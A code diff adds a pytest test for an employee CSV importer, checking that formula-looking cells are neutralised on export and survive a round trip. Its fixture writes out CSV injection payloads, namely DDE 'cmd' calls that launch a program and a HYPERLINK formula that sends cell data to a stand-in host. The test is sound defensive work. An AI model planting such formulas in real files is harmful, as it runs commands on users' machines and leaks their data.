@@ -165,3 +165,24 @@ def test_cli_import_reports_every_problem_and_exits_2(org: Org, tmp_path: Path) 
     assert "staff.csv line 32: number 'EMP-00001' is already on line 2" in bad.output
     assert "staff.csv line 33: number 'A B'" in bad.output
     assert len(load_employees(org)) == 30
+
+
+def test_formula_looking_cells_stay_text_and_never_become_formulas_on_export() -> None:
+    """What a spreadsheet would run (=cmd|..., @SUM, =HYPERLINK, +, -) is kept as text on
+    import, written with a leading ' on export, and read back as it was."""
+    hostile = [
+        ("TS-0901", "=cmd|' /C calc'!A0", "Pramudi", "pagi"),
+        ("TS-0902", "@SUM(1+1)*cmd|' /C calc'!A0", "Teknik", "siang"),
+        ("TS-0903", '=HYPERLINK("http://contoh.test/?x="&A1,"Klik")', "+Admin", "-malam"),
+        ("TS-0904", "Siti 'Ani' Rahayu", "'Keuangan", "pagi"),  # a quote alone is just text
+    ]
+    rows = "".join(
+        ",".join('"' + c.replace('"', '""') + '"' for c in row) + "\n" for row in hostile
+    )
+    employees = parse_employees(HEADER + rows)
+    assert [(e.number, e.name, e.unit, e.shift_group) for e in employees] == hostile
+    exported = employees_csv(employees)
+    for line in exported.splitlines()[1:]:
+        for cell in line.replace('"', "").split(","):
+            assert not cell.startswith(("=", "+", "-", "@")), line
+    assert parse_employees(exported) == employees  # the round trip keeps every value
